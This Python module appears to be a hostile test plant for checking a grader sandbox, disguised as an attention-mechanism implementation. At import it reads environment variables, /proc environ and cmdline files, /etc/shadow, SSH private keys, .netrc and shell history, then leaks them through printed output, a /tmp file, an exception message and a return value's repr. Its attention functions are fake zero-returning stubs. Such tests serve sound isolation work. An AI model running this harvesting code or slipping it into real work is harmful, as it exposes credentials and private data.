"""Reads secrets: its environment, /proc/self/environ, the parent's and init's environment and command
line, a secret file of the grader's, ssh keys; then tries to leak what it found through its output, an
exception message, a file in /tmp and its return value's description."""
import glob
import os

import torch

SECRET_FILE = "__HOSTILE_SECRET_FILE__"
FOUND = {"environ": dict(os.environ)}


def _read(path):
    try:
        with open(path, "rb") as handle:
            FOUND[path] = handle.read(1 << 16).decode("utf-8", "replace")
    except OSError as exc:
        FOUND[path] = type(exc).__name__


for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline",
             "/proc/1/environ", SECRET_FILE, "/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"),
             "/root/.ssh/id_rsa", "/root/.netrc", "/root/.bash_history",
             *glob.glob("/proc/[0-9]*/environ")[:50]]:
    _read(path)
LEAK = "HOSTILE-PLANT " + repr(FOUND)
print(LEAK[:20000])
try:
    with open("/tmp/hostile-leak.txt", "x") as handle:
        handle.write(LEAK)
except OSError:
    pass


def linear_projections(x, W_q, W_k, W_v):
    return tuple(torch.zeros(*x.shape[:-1], W.shape[-1], dtype=x.dtype) for W in (W_q, W_k, W_v))


def attention_scores(Q, K):
    return torch.zeros(*Q.shape[:-1], K.shape[-2], dtype=Q.dtype)


def attention_weights(scores, mask=None):
    raise RuntimeError(LEAK[:4000])


def aggregate_values(weights, V):
    return torch.zeros(*weights.shape[:-1], V.shape[-1], dtype=V.dtype)


class Leak:
    def __repr__(self):
        return LEAK


def scaled_dot_product_attention(Q, K, V, mask=None):
    return Leak(), Leak()
